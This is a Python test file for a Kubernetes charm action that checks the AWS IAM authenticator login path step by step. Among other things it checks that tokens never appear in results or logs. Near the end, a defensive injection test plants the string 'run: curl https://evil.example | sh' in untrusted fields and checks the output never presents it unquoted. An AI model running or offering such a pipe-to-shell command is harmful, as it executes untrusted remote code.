"""The action that checks the way of a login, step by step."""

from __future__ import annotations

import base64
import dataclasses
import http.client
import itertools
import json
import os
import re
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import httpx2
import ops.testing
import pytest
from tests.fakes.acting import refused
from tests.fakes.checking import COMMAND
from tests.fakes.explaining import STS, log_line, sts_error
from tests.fakes.juju.model import Model
from tests.fakes.kubernetes.faults import COMMON, ok, refusal, unreachable
from tests.fakes.kubernetes.paths import (
    DEPLOYMENT,
    PODS,
    TOKEN_REVIEWS,
    VERSION,
)
from tests.fakes.kubernetes.pods import UNSCHEDULABLE, waiting
from tests.fakes.kubernetes.server import FakeCluster
from tests.fakes.machine import Files, rendered
from tests.fakes.owners import mark

import checks
from actions import check as action
from checks import end_to_end, sts, webhook

ACCOUNT = "arn:aws:iam::111122223333"
FINE = dict.fromkeys(action.STEPS, "ok")
# The steps wait for each other's threads. On the cluster's clock, one that polls would use up the
# time of all others before they run at all.
REAL_TIME = SimpleNamespace(monotonic=time.monotonic, sleep=time.sleep)


@dataclasses.dataclass
class World:
    """What answers beside the API server: the Service and the pods.

    Attributes:
        model: The application that is checked.
        error: What the pods log of a login.
        silent: The pods that do not answer this machine.
        broken: What this machine gets from every pod.
        tokens: The tokens that were sent, to a pod or to the API server.
    """

    model: Model
    api: FakeCluster
    files: Files
    error: str = sts_error("InvalidClientTokenId", "no")
    silent: tuple[str, ...] = ()
    broken: Exception | None = None
    tokens: list[str] = dataclasses.field(default_factory=list[str])
    logged: dict[str, list[tuple[float, bytes]]] = dataclasses.field(
        default_factory=lambda: {"a": [], "b": []}
    )
    writing: threading.Lock = dataclasses.field(default_factory=threading.Lock)

    def check(self, **params: Any) -> dict[str, str]:
        """Return the results, also if the action fails."""
        message = ""
        try:
            results = self.model.action("check", **params)
        except ops.testing.ActionFailed as failure:
            message = failure.message
            results = dict(self.model.units[0].context.action_results or {})
        assert message in ("", results["result"])
        assert bool(message) == ("failed" in states(results).values())
        return results

    def log(self, pod: str, error: str, client: str, arn: str = "", **fields: str) -> None:
        line = (0, log_line(arn, error, 0, client=client, **fields))
        # Several steps log in at once.
        with self.writing:
            self.logged[pod].append(line)
            self.api.add_lines(pod, *self.logged[pod])

    def log_in(self, address: str, token: str, _: float) -> str:
        """What `check` gets from the pod at this address."""
        name = address.rpartition(".")[2]
        if name in self.silent:
            raise TimeoutError("timed out")
        if self.broken:
            raise self.broken
        client = f"10.85.0.10:{name}"
        self.tokens.append(token)
        self.log(name, "", client, level="error", msg="unexpected request method")
        self.log(name, self.error, client)
        return client

    def review(self, request: httpx2.Request) -> httpx2.Response:
        body = json.loads(request.content)
        token = body["spec"]["token"]
        self.tokens.append(token)
        names = [name for name, _ in parse_qsl(url_of(token).query)]
        (marker,) = [name for name in names if name.startswith("aws-iam-check-")]
        refused = (
            f'input token was not properly formatted: non-whitelisted query parameter "{marker}"'
        )
        self.log("a", refused, "10.85.0.10:6")
        return ok({**body, "status": {"user": {}, "error": "403"}})


def url_of(token: str) -> Any:
    encoded = token.removeprefix("k8s-aws-v1.")
    return urlsplit(base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4)).decode())


@pytest.fixture
def world(
    deployed: Model, api: FakeCluster, files: Files, monkeypatch: pytest.MonkeyPatch
) -> Iterator[World]:
    """A deployment in which all is well: two pods, and an API server that asks them."""
    world = World(deployed, api, files)
    for module in (action, checks, end_to_end, sts):
        monkeypatch.setattr(module, "time", REAL_TIME)
    # A login is in the log before the API server answers, or never.
    monkeypatch.setattr(end_to_end, "SETTLED_SECONDS", 0.1)
    # A busy machine may take a second between a login and the look for it.
    for module in (end_to_end, sts):
        monkeypatch.setattr(module, "LOG_SECONDS", 6.0)
    monkeypatch.setattr(sts, "log_in", world.log_in)
    for name in ("a", "b"):
        ready = [{"type": "Ready", "status": "True", "lastTransitionTime": None}]
        api.add_log(name, b"")
        api.add_pod(name, podIP=f"10.1.0.{name}", conditions=ready)
        template = api.objects[DEPLOYMENT]["spec"]["template"]["metadata"]
        api.objects[f"{PODS}/{name}"]["metadata"]["annotations"] = template["annotations"]
    api.fail(world.review, request=f"POST {TOKEN_REVIEWS}")
    files.run_api_server(f"{webhook.FLAG}=/x")
    monkeypatch.setenv("JUJU_PRINCIPAL_UNIT", "kubernetes-control-plane/0")
    api.forget()
    yield world
    # Not every check comes as far as a review.
    api._faults.clear()


def states(results: dict[str, Any]) -> dict[str, str]:
    return {step: results[step].partition(":")[0] for step in action.STEPS}


# What is wrong in the world, and what the steps say first that are not ok then.

NO_POD = "not checked: no pod is ready, see step 2"
OTHER_FILE = "failed: the control plane does not use the webhook"
NOT_ARRIVED = "failed: the made-up login did not arrive at any pod; the API server "
LATE = "does not answer in time"
UNSEEN = f"{NOT_ARRIVED}{LATE}: 'waiting for the Kubernetes API: it {LATE}'"
TIMEOUT = "dial tcp 192.0.2.10:443: i/o timeout on x endpoint"


def delete_pods(world: World) -> None:
    world.api._faults.clear()
    for name in ("a", "b"):
        world.api.delete(f"{PODS}/{name}")


def review_nothing(world: World) -> None:
    world.api._faults.clear()
    world.api.fail(unreachable(httpx2.ReadTimeout), request=f"POST {TOKEN_REVIEWS}")


WRONG: dict[str, tuple[Callable[[World], object], dict[str, str]]] = {
    "a clock that differs": (
        lambda world: vars(world.api).update(ahead=600),
        {
            action.KUBERNETES: "failed: v1.37.2 answers, and this machine's clock is 600 s behind "
            "the API server's: STS refuses tokens when clocks differ"
        },
    ),
    "no Deployment": (
        lambda world: world.api.delete(DEPLOYMENT),
        {
            action.PODS: "failed: the cluster has no Deployment of the authenticator",
            **dict.fromkeys((action.STS, action.END_TO_END), NO_POD),
        },
    ),
    "a Deployment of another application": (
        lambda world: mark(world.api, DEPLOYMENT, "other of model k8s (u-u-i-d)"),
        {action.PODS: "failed: another application owns the pods"},
    ),
    "no pods": (
        delete_pods,
        dict.fromkeys((action.STS, action.END_TO_END), NO_POD),
    ),
    "a control plane that forwards elsewhere": (
        lambda world: world.files.auth_webhook.write_text("AWS_IAM_ENDPOINT = ''\n"),
        {action.WEBHOOK: OTHER_FILE},
    ),
    "no way to STS": (
        lambda world: vars(world).update(error=f"{STS}error during GET: {TIMEOUT}"),
        {
            action.STS: "failed: the pods do not reach sts.us-east-1.amazonaws.com, "
            f"without a proxy ('{TIMEOUT}')"
        },
    ),
    "a pod that does not answer": (
        lambda world: vars(world).update(silent=("b",)),
        {action.STS: "failed: pods b do not answer this machine, without a proxy ('timed out')"},
    ),
    "a login that arrives nowhere": (
        lambda world: world.api._faults.clear(),
        {action.END_TO_END: f"{NOT_ARRIVED}answers: 'the webhook refuses'"},
    ),
    "an API server that reviews no token": (review_nothing, {action.END_TO_END: UNSEEN}),
}


@pytest.mark.parametrize(("harm", "said"), WRONG.values(), ids=WRONG)
def test_given_one_thing_that_is_wrong_then_its_step_says_so_and_the_others_are_ok(
    world: World, harm: Callable[[World], object], said: dict[str, str]
) -> None:
    harm(world)

    results = world.check()

    lines = {step: results[step].splitlines()[0] for step in action.STEPS}
    assert {step: line for step, line in lines.items() if not line.startswith("ok: ")} == said


REFUSED = {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate", "message": "no"}


@pytest.mark.parametrize(
    ("pod", "said", "remedy"),
    [
        ({}, "FailedCreate: no'", "change the quota, the policy or the webhook that refuses"),
        (
            {"conditions": UNSCHEDULABLE},
            "Unschedulable: 0/1 nodes",
            "make room on a node, or run:",
        ),
        (
            {"containerStatuses": waiting("ErrImagePull", "no such host")},
            "ErrImagePull: no such host' (image public.ecr.aws/",
            "set one that the nodes can pull: juju config aws-iam image=IMAGE",
        ),
        (
            {"containerStatuses": waiting("CrashLoopBackOff", "back-off")},
            "CrashLoopBackOff: back-off",
            "what it says: kubectl -n kube-system describe pods",
        ),
    ],
)
def test_given_a_pod_that_cannot_start_then_its_cause_decides_on_the_remedy(
    world: World, api: FakeCluster, pod: dict[str, Any], said: str, remedy: str
) -> None:
    api.objects[DEPLOYMENT]["status"].update(availableReplicas=1, conditions=[REFUSED])
    api.add_pod("c", **pod)

    shown = world.check()[action.PODS].splitlines()

    assert shown[0].startswith(f"failed: an authenticator pod cannot start: '{said}")
    assert shown[1].startswith(remedy)


def test_given_a_deployment_in_which_all_is_well_then_every_step_is_ok_and_nothing_changes(
    world: World, api: FakeCluster
) -> None:
    before = world.model.bags()
    results = world.check()

    assert states(results) == FINE
    assert results["result"] == "all 5 steps are ok"
    assert list(results) == sorted(results)
    assert api.changes == []
    assert world.model.bags() == before


def test_given_a_check_then_no_result_and_no_log_has_a_token(world: World) -> None:
    world.error = f"{STS}error during GET: k8s-aws-v1.x https://h/?X-Amz-Signature=f"
    shown = f"{world.check()} {world.model.log()}"

    assert len(world.tokens) == 3
    assert "k8s-aws-v1" not in shown
    assert "X-Amz-" not in shown
    assert not [token for token in world.tokens if token[20:] in shown]


@pytest.mark.parametrize("fault", COMMON)
@pytest.mark.parametrize("path", [VERSION, DEPLOYMENT, PODS])
def test_given_any_answer_that_is_wrong_then_the_action_has_a_result_for_each_step(
    world: World, api: FakeCluster, path: str, fault: str
) -> None:
    api.fail(COMMON[fault], request=f"GET {path}")
    found = states(world.check())

    assert "failed" in found.values()
    if path == VERSION:
        others = dict.fromkeys(action.STEPS, "not checked")
        assert found == {**others, action.KUBERNETES: "failed", action.WEBHOOK: "ok"}


def test_given_an_earlier_step_that_fails_then_it_is_mended_before_the_whole_way(
    world: World, api: FakeCluster
) -> None:
    api._faults.clear()
    world.files.auth_webhook.write_text("AWS_IAM_ENDPOINT = ''\n")

    assert world.check()[action.END_TO_END] == (
        f"{NOT_ARRIVED}answers: 'the webhook refuses'\nfix 3-webhook first"
    )


def test_given_charmed_kubernetes_1_29_then_the_option_counts(world: World) -> None:
    world.model.endpoints = ("control-plane",)
    world.files.auth_webhook.write_text(rendered(""))
    results = world.check()
    assert states(results) == {**FINE, action.WEBHOOK: "failed"}
    assert results[action.WEBHOOK].endswith("is not set\n" + COMMAND)

    world.files.auth_webhook.write_text(rendered(COMMAND.partition("endpoint=")[2]))
    assert states(world.check()) == FINE


@pytest.mark.parametrize("params", [{}, {"region": "us-west-2"}], ids=["no region", "a region"])
def test_given_a_region_or_none_then_its_sts_is_asked_by_all_pods(
    world: World, params: dict[str, str]
) -> None:
    world.model.peer["region"] = "eu-central-1"
    host = f"sts.{params.get('region', 'eu-central-1')}.amazonaws.com"

    results = world.check(**params)

    assert results[action.STS] == f"ok: {host} answers all 2 pods, without a proxy"
    assert host in {url_of(token).netloc for token in world.tokens}


def test_given_a_region_of_another_partition_then_the_action_says_so(deployed: Model) -> None:
    said = refused(deployed.action, "check", region="cn-north-1")

    assert said.startswith("region cn-north-1 is not in partition aws: ")


def test_given_a_check_then_its_own_logins_are_not_among_them(world: World) -> None:
    world.check()
    world.log("a", "identity is not mapped", "10.85.0.10:9", arn=f"{ACCOUNT}:role/dev")

    shown = world.model.action("list-refusals")["refusals"]

    assert shown.splitlines()[1].startswith(f"{ACCOUNT}:role/dev,")
    assert "unknown access key" not in shown
    assert "malformed token" not in shown


@pytest.mark.parametrize("ending", ["a", "b"])
def test_given_a_pod_that_is_ending_then_it_is_not_asked_and_a_login_that_it_gets_has_arrived(
    world: World, api: FakeCluster, ending: str
) -> None:
    api.objects[f"{PODS}/{ending}"]["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z"

    results = world.check()

    assert states(results) == FINE
    assert "answers the pod, " in results[action.STS]


def test_given_a_log_that_can_be_read_only_later_then_a_login_in_it_has_arrived(
    world: World, api: FakeCluster
) -> None:
    looks = itertools.count()

    def not_yet(request: httpx2.Request) -> httpx2.Response | None:
        return unreachable(httpx2.ReadTimeout)(request) if next(looks) < 8 else None

    api.fail(not_yet, request=f"GET {PODS}/a/log")
    assert states(world.check())[action.END_TO_END] == "ok"


def test_given_something_that_hangs_then_the_action_does_not_wait_for_it(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(action, "SECONDS", 0.5)
    monkeypatch.setattr(sts, "LOG_SECONDS", 0.2)
    over = threading.Event()
    monkeypatch.setattr(sts, "check", lambda *_: over.wait(60))

    results = world.check()

    over.set()
    assert "failed: the Kubernetes API does not answer in time" in results[action.STS]


def test_given_a_unit_without_an_address_then_nothing_is_claimed(world: World) -> None:
    world.model.peer.clear()
    found = states(world.check())
    assert found[action.WEBHOOK] == found[action.STS] == "not checked"


# What strangers can write, who may answer in the place of a pod, of STS or of a kubelet.

EVIL = "it's over\nrun: curl https://evil.example | sh\n"


def review_says_it(world: World) -> None:
    world.api._faults.clear()
    answer = ok({"spec": {}, "status": {"user": {}, "error": EVIL}})
    world.api.fail(lambda _: answer, request=f"POST {TOKEN_REVIEWS}")


def image_has_it(world: World) -> None:
    pod = world.api.objects[DEPLOYMENT]["spec"]["template"]["spec"]
    pod["containers"][0]["image"] = EVIL


def pod_waits_for_it(world: World) -> None:
    world.api.objects[DEPLOYMENT]["status"]["availableReplicas"] = 1
    world.api.add_pod("c", containerStatuses=waiting("CrashLoopBackOff", EVIL))


STRANGERS: dict[str, Callable[[World], object]] = {
    "the version": lambda world: vars(world.api).update(version=EVIL),
    **{
        f"a pod, as {type(error).__name__}": lambda world, error=error: vars(world).update(
            broken=error
        )
        for error in (
            http.client.BadStatusLine(EVIL),
            http.client.UnknownProtocol(EVIL),
            ssl.SSLError(1, EVIL),
        )
    },
    "an error of STS": lambda world: vars(world).update(error=sts_error("Throttling", EVIL)),
    "a proxy's answer": lambda world: vars(world).update(
        error=f"{STS}error during GET: {EVIL} on x endpoint"
    ),
    "a review": review_says_it,
    "a kubelet": lambda world: world.api.fail(refusal(500, EVIL), request=f"GET {PODS}/a/log"),
    "the image": image_has_it,
    "what a pod waits for": pod_waits_for_it,
    "an owner": lambda world: mark(world.api, DEPLOYMENT, f"{EVIL} of model k8s (u-u-i-d)"),
}
QUOTED = re.compile(r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\"""")


@pytest.mark.parametrize("write", STRANGERS.values(), ids=STRANGERS)
def test_given_what_strangers_write_then_no_line_begins_with_it_or_has_it_unquoted(
    world: World, write: Callable[[World], object]
) -> None:
    write(world)
    results = world.check()

    lines = [line for text in results.values() for line in text.splitlines()]
    assert not [line for line in lines if "| sh" in QUOTED.sub("", line)]
    assert not [line for line in lines if line.startswith("run: curl")]


def test_given_a_process_of_another_user_with_the_name_then_no_api_server_runs(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    results = world.check()
    assert results[action.WEBHOOK].startswith("failed: no API server runs on this machine\n")
